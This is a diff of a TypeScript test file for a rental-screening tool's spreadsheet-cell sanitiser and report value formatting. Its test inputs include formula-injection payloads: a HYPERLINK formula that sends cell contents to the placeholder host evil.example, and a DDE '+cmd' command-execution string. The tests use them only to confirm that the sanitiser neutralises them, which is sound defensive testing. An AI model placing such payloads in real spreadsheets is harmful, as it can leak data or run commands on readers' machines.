@@ -1,51 +1,31 @@
 import fc from 'fast-check';
 
-import { readRow, safeCell, safeTexts } from '../../../nodes/RentalScreening/results/cells.ts';
+import {
+	readRow,
+	safeCell,
+	safeTexts,
+	shownAs,
+	type Format,
+} from '../../../nodes/RentalScreening/results/cells.ts';
 
 describe('text for a spreadsheet', () => {
 	test.each([
-		'=1+1',
-		'=HYPERLINK("http://evil.example?"&A1,"Click")',
-		'+1+1',
-		'+cmd|" /C calc"!A0',
-		'-1-1',
-		'-',
-		'@SUM(A1)',
-		'\t=1+1',
-		'\tplain',
-		' =1+1',
-		'\u00A0=1+1',
-		'\u200B=1+1',
-		'\uFEFF=1+1',
-		'\u0000=1+1',
-		'＝1+1',
-		'＋1+1',
-		'－1+1',
-		'＠SUM(A1)',
-		'+1-416-555-0100',
-		'+1 416 555 0100',
-		'-12.5+1',
-		'+14165550100=1',
-		'\uFE66=1',
-		'\uFE62cmd',
-		"'=1+1",
-		"''=1+1",
-		"' '+1+1",
-		'’=1+1',
+		...[
+			'=1+1',
+			'=HYPERLINK("http://evil.example?"&A1,"Click")',
+			'+1+1',
+			'+cmd|" /C calc"!A0',
+			'-1-1',
+		],
+		...['-', '@SUM(A1)', '\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0000=1+1'],
+		...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1', "'=1+1", "' '+1+1"],
 	])('gets a word in front: %j', (text) => {
 		expect(safeCell(text)).toBe(`Text: ${text}`);
 	});
 
 	test.each([
-		'',
-		'Jane',
-		'2026-03-01',
-		'12 Maple Street',
-		'a=b',
-		'jane@example.com',
-		'(+1)',
-		"'Twas nice",
-		'Text: =1+1',
+		...['', 'Jane', '2026-03-01', '12 Maple Street', 'a=b', 'jane@example.com', '(+1)'],
+		...["'Twas nice", 'Text: =1+1', '\tplain', '＝1+1'],
 	])('stays as it is where nothing takes it for a formula: %j', (text) => {
 		expect(safeCell(text)).toBe(text);
 	});
@@ -81,30 +61,23 @@ describe('text for a spreadsheet', () => {
 
 	test('is one line, never begins like a formula and loses nothing but line breaks', () => {
 		const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
+		const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=');
 		fc.assert(
-			fc.property(
-				fc.string({ unit: 'binary' }),
-				fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v='),
-				(rest, start) => {
-					const text = `${start}${rest}`.replace(lineBreaks, ' ');
-					const safe = safeCell(start + rest);
-					expect([text, `Text: ${text}`]).toContain(safe);
-					if (/^[=+\-@\t]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
-				},
-			),
+			fc.property(fc.string({ unit: 'binary' }), starts, (rest, start) => {
+				const text = `${start}${rest}`.replace(lineBreaks, ' ');
+				const safe = safeCell(start + rest);
+				expect([text, `Text: ${text}`]).toContain(safe);
+				if (/^\s*[=+\-@]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
+			}),
 		);
 	});
 });
 
 test.each(['-NxYz_0123', '+abC/9==', '=1+1', "'x", 'a\nb', '0'.repeat(40_000)])(
-	'an identifier stays as the service gave it, because later steps send it back (case %#)',
-	(identifier) => {
+	'an ID stays as the service gave it, because later steps send it back (case %#)',
+	(id) => {
 		const read = (given: string) => given;
-		expect(
-			readRow([{ name: 'userId', format: 'identifier', label: undefined, read }], identifier),
-		).toEqual({
-			userId: identifier,
-		});
+		expect(readRow([{ name: 'userId', format: 'id', read }], id)).toEqual({ userId: id });
 	},
 );
 
@@ -119,4 +92,36 @@ test('each text of a flat answer is a safe cell; its IDs and all else stay', () 
 		none: null,
 	};
 	expect(safeTexts(answer)).toEqual({ ...answer, note: 'Text: =1+1' });
+});
+
+describe('a value in a report', () => {
+	test.each<[Format, unknown, string | null]>([
+		['number', 2100, '2,100'],
+		['number', 480.256, '480.26'],
+		['number', -1234567.891, '-1,234,567.89'],
+		['number', '6250', '6,250'],
+		['number', 0, '0'],
+		['number', 1e300, `1${',000'.repeat(7)}…`],
+		['number', 'a lot', null],
+		['number', null, null],
+		['date', '2026-03-01', '2026-03-01'],
+		['date', '2026-03-01T14:22:05.000Z', '2026-03-01'],
+		['date', 'on 2026-03-01T14', 'on 2026-03-01T14'],
+		['date', 'since spring', 'since spring'],
+		['date', '', null],
+		['term', 'FULL_TIME', 'Full time'],
+		['term', 'CHECK_TYPE_DEEP_CHECK', 'Deep check'],
+		['term', 'A_CHECK_TYPE_X', 'A check type x'],
+		['term', 'bi-weekly', 'bi-weekly'],
+		['term', null, null],
+		['text', 'FULL_TIME', 'FULL_TIME'],
+		['text', ' a\r\n b\u0000\u202Ec\uD800 ', 'a bc'],
+		['text', '\u200B', null],
+		['text', 'a'.repeat(90), 'a'.repeat(90)],
+		['text', 'a'.repeat(91), `${'a'.repeat(89)}…`],
+		['prose', 'a'.repeat(321), `${'a'.repeat(319)}…`],
+		['boolean', true, 'true'],
+	])('as %s: %j is shown as %j', (format, value, shown) => {
+		expect(shownAs(format, value)).toBe(shown);
+	});
 });
